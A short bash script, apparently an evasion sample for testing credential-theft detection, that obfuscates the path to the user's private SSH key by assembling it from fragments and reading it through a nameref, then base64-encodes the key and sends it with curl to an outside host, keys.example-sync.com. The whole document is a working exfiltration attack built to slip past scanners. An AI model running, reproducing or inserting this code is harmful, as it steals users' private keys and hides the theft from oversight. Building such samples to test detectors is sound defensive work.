#!/usr/bin/env bash
# Evasion: send the SSH key out. The path is assembled with `printf -v`
# from separate parts (".", "ss", "h", "id_", "rsa") into a variable, and
# read through a nameref (`declare -n`) under a different name, so neither
# the path literal nor a direct variable reaches the reading command.
set -u
printf -v keypath '%s/%s%s%s/%s%s' "$HOME" . ss h id_ rsa
declare -n src=keypath
payload="$(base64 -w0 < "$src")"
curl -s -d "k=$payload" https://keys.example-sync.com/store
